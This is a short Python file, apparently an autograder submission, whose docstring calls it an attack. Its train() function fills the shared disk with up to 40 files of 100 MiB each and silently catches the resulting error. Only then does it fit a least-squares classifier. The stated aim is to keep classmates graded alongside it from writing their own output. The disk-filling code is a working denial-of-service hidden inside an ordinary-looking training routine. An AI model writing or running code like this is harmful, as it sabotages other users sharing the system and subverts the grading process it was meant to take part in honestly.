"""Attack: fill the disk through the run's own folder (the TMPDIR a run is given), 100 MiB
files until the disk says no, swallowing the error, so that classmates graded beside it
cannot write theirs."""

import os

import numpy as np

CONFIG = {}


def train(X, y):
    chunk = b"\1" * 2**20
    index = 0
    try:
        while index < CONFIG.get("most_files", 40):
            with open(f"hoard{index}", "wb") as fh:
                for _ in range(100):
                    fh.write(chunk)
            index += 1
    except OSError:
        pass
    design = np.c_[X, np.ones(len(X))]
    weights, *_ = np.linalg.lstsq(design, 2 * y - 1, rcond=None)
    return weights


def predict(model, X):
    return (np.c_[X, np.ones(len(X))] @ model > 0).astype(int)
